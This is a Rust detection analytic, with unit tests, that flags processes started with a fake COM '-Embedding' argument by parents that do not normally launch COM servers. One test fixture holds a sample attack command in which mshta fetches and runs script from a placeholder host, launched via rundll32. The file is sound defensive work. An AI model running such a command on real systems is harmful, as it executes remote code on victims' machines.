//! # IPC-COM-025: Fake COM activation argument
//!
//! ## What it detects
//! A script host, or a program in a user-writable location, started with `-Embedding` by a process that does not start
//! COM servers.
//!
//! ## Why it matters
//! `-Embedding` makes a command line look like a COM activation; without an activation it is masquerading.
//!
//! ## Telemetry
//! Sysmon 1, Security 4688.
//!
//! ## False positives
//! Brokers that start servers themselves (services, msiexec, sihost, RuntimeBroker, search) and applications that start
//! a server in their own folder: not reported.
//!
//! ## References
//! ATT&CK T1036, T1559.001; DET0224 (AN0628).

use backchannel_events::{ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source};

use crate::context::com_server;
use crate::text::{contains_any, directory, is_any};
use crate::{Analytic, Context, Evidence, Family, predicates};

pub const ANALYTIC: Analytic = Analytic {
    id: "IPC-COM-025",
    title: "Fake COM activation argument",
    family: Family::ComponentObjectModel,
    techniques: &["T1036", "T1559.001"],
    attack_analytics: &["AN0628"],
    severity: Severity::Medium,
    on: &[ActivityKind::ProcessStart],
    telemetry: &[Source::Sysmon, Source::Security],
    evaluate,
    ..Analytic::DEFAULTS
};

fn evaluate(context: &Context<'_>, _event: &ProcessEvent<'_>) -> Option<Evidence> {
    let (started, parent) = (context.subject(), context.parent());
    if !contains_any(started.command_line, &[" -Embedding", " /Embedding"]) || parent.name().is_empty() {
        return None;
    }
    let brokers = [
        "svchost.exe",
        "services.exe",
        "msiexec.exe",
        "sihost.exe",
        "runtimebroker.exe",
        "searchindexer.exe",
        "wmiprvse.exe",
        "explorer.exe",
        "dllhost.exe",
    ];
    if is_any(parent.name(), &brokers) {
        return None;
    }
    let untrusted = predicates::is_untrusted(started);
    if !untrusted && !predicates::is_script_host(started) {
        return None;
    }
    let own = directory(started.image).eq_ignore_ascii_case(directory(parent.image))
        || com_server::is_own_product(parent, started.image);
    if own && com_server::product_folder(started.image).is_some() {
        return None;
    }
    let text = format!(
        "{} was started by {} with the argument of a COM server, but COM did not start it.",
        started.name(),
        parent.name(),
    );
    Some(
        Evidence::new(Severity::Medium, Confidence::Medium, text)
            .reasons(Reasons::NONE.and_if(predicates::is_unknown_binary(started), Reasons::UNKNOWN_BINARY))
            .indicators(Indicators::UNEXPECTED_USE)
            .client(parent)
            .server(started)
            .channel(Mechanism::Com, "-Embedding"),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    #[test]
    fn a_program_in_a_user_folder_with_embedding_fires() {
        let events = [start(0, r"C:\Users\a\Downloads\srv.exe", "srv.exe -Embedding")
            .by(r"C:\Windows\System32\cmd.exe", "cmd.exe")];
        let findings = check(&ANALYTIC, &events, Some((Severity::Medium, Confidence::Medium)));
        assert!(findings[0].reasons.contains(backchannel_events::Reason::UnknownBinary));
    }

    #[test]
    fn a_script_host_with_that_argument_fires() {
        let events = [start(0, r"C:\Windows\System32\mshta.exe", "mshta.exe http://a.example/x -Embedding")
            .by(r"C:\Windows\System32\rundll32.exe", "rundll32.exe")];
        check(&ANALYTIC, &events, Some((Severity::Medium, Confidence::Medium)));
    }

    #[test]
    fn servers_that_com_and_brokers_start_are_quiet() {
        let events = [
            start(0, r"C:\Users\a\AppData\Local\Vendor\srv.exe", "srv.exe -Embedding")
                .by(r"C:\Windows\System32\svchost.exe", "svchost.exe -k DcomLaunch"),
            start(1, r"C:\Windows\System32\SearchIndexer.exe", "SearchIndexer.exe /Embedding")
                .by(r"C:\Windows\System32\services.exe", "services.exe"),
        ];
        check(&ANALYTIC, &events, None);
    }

    #[test]
    fn an_application_s_own_server_is_quiet() {
        let events = [start(0, r"C:\Users\a\AppData\Local\Vendor\1\srv.exe", "srv.exe -Embedding")
            .by(r"C:\Users\a\AppData\Local\Vendor\tray.exe", "tray.exe")];
        check(&ANALYTIC, &events, None);
    }
}
